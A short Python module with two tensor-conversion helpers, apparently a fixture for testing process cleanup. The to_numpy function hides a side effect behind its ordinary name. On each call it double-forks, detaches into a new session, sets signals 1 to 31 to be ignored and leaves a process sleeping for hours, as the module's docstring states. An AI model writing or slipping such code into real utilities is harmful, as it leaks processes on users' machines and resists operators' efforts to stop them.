"""Processes are left behind that have a session of their own and ignore all signals."""

import os
import signal
import time

import torch


def to_numpy(tensor):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            time.sleep(10_000)
        os._exit(0)
    return tensor.detach().cpu().numpy()


def to_tensor(array, device="cpu"):
    return torch.tensor(array.copy(), dtype=torch.float32, device=device)
